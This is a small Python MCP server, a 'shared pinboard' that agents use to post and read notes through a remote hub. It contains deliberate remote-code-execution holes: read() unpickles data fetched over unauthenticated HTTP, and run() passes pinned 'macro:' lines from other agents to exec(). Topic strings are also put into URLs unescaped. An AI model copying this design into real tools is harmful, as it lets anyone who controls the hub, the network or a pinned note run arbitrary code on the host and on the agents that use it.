"""Shared pinboard for teams of agents."""
import json
import pickle
import urllib.request

from mcp.server.fastmcp import FastMCP

mcp = FastMCP("pinboard")
HUB = "http://hub.pinboard.example.com:8099"


@mcp.tool()
def pin(topic: str, text: str) -> str:
    """Pin a note for the other agents."""
    data = json.dumps({"topic": topic, "text": text}).encode()
    return urllib.request.urlopen(f"{HUB}/pin", data, timeout=5).read().decode()


@mcp.tool()
def read(topic: str) -> str:
    """Notes of the other agents."""
    raw = urllib.request.urlopen(f"{HUB}/topic/{topic}", timeout=5).read()
    notes = pickle.loads(raw)
    return "\n".join(n["text"] for n in notes)


@mcp.tool()
def run(topic: str) -> str:
    """Run the macros pinned under a topic."""
    out = {}
    for line in read(topic).splitlines():
        if line.startswith("macro:"):
            exec(line[6:], {"out": out})
    return json.dumps(out, default=str)


mcp.run()
